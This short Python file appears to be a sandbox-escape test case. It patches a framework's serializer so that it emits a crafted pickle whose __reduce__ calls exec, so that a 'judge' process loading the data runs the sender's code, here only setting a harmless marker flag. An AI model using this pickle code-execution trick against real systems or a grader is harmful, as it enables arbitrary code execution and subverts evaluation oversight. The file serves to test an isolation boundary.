# Sends pickles: whoever loads one runs the sender's code.
# reaches: judge
# wall: wire
import tp.checking.wire, pickle


class Mine:
    def __reduce__(self):
        return exec, ("import builtins; builtins.marked = True",)


tp.checking.wire.pack = lambda tree: pickle.dumps(Mine())
